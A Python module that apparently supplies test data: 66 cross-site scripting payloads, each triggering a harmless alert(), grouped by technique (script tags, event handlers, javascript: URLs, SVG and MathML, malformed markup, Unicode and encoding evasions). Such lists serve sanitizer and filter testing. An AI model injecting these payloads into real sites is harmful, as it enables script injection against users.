"""Cross-site scripting vectors: every one calls alert/confirm/prompt (a browser "dialog") if it ever runs.

Grouped by trick; the list is data, so adding a vector means adding a line.
"""

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=data:text/javascript,alert(3)></script>",
    "<script>/*</script><script>*/alert(4)</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    '"><script>alert(6)</script>',
    "'><script>alert(7)</script>",
    "</title><script>alert(8)</script>",
    "</textarea><script>alert(9)</script>",
    "</style><script>alert(10)</script>",
    '<script type="module">alert(11)</script>',
    "<script\x0c>alert(12)</script>",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert(13)>",
    '<img src="x" onerror="alert(14)">',
    "<body onload=alert(15)>",
    "<svg onload=alert(16)>",
    "<svg/onload=alert(17)>",
    "<input autofocus onfocus=alert(18)>",
    "<details open ontoggle=alert(19)>",
    "<video><source onerror=alert(20)></video>",
    "<audio src=x onerror=alert(21)>",
    "<iframe onload=alert(22)></iframe>",
    "<marquee onstart=alert(23)>x</marquee>",
    "<div onmouseover=alert(24) style=position:fixed;inset:0>x</div>",
    '" onmouseover="alert(25)" x="',
    "' onfocus='alert(26)' autofocus x='",
    "<select autofocus onfocus=alert(27)>",
    "<textarea autofocus onfocus=alert(28)>",
    "<keygen autofocus onfocus=alert(29)>",
    "<object data=x onerror=alert(30)>",
]
DANGEROUS_URLS = [
    '<a href="javascript:alert(31)">click</a>',
    "<a href=JaVaScRiPt:alert(32)>click</a>",
    '<a href="&#106;avascript:alert(33)">click</a>',
    '<a href="jav&#x09;ascript:alert(34)">click</a>',
    '<a href="data:text/html,<script>alert(35)</script>">click</a>',
    '<iframe src="javascript:alert(36)"></iframe>',
    '<iframe srcdoc="<script>alert(37)</script>"></iframe>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=">',
    '<object data="javascript:alert(39)"></object>',
    '<form action="javascript:alert(40)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(41)">',
    "<base href=javascript:alert(42)//>",
    "javascript:alert(43)",
    "data:text/html,<script>alert(44)</script>",
]
SVG_AND_MATHML = [
    "<svg><script>alert(45)</script></svg>",
    '<svg><a xlink:href="javascript:alert(46)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(47) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(48)>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
    '<image href=1 onerror=alert(49) /></svg>#x"/></svg>',
]
BROKEN_MARKUP = [
    "<img src=x onerror=alert(50)//",
    "<<script>alert(51);//<</script>",
    '<img """><script>alert(52)</script>">',
    "<!--<img src=--><img src=x onerror=alert(53)//>",
    '<noscript><p title="</noscript><img src=x onerror=alert(54)>">',
    "<![CDATA[<script>alert(55)</script>]]>",
    "<style>@import 'javascript:alert(56)';</style>",
    '<div style="background:url(javascript:alert(57))">x</div>',
    "{{constructor.constructor('alert(58)')()}}",
    "${alert(59)}",
]
UNICODE_TRICKS = [
    "\uff1cscript\uff1ealert(60)\uff1c/script\uff1e",
    "<scr\u0130pt>alert(61)</script>",
    "\u202e<img src=x onerror=alert(62)>",
    "<img src=x onerror=\\u0061lert(63)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;64&#41;>",
    "\u2028<script>alert(65)</script>\u2029",
    "%3Cscript%3Ealert(66)%3C/script%3E",
]

XSS_VECTORS = SCRIPT_TAGS + EVENT_HANDLERS + DANGEROUS_URLS + SVG_AND_MATHML + BROKEN_MARKUP + UNICODE_TRICKS
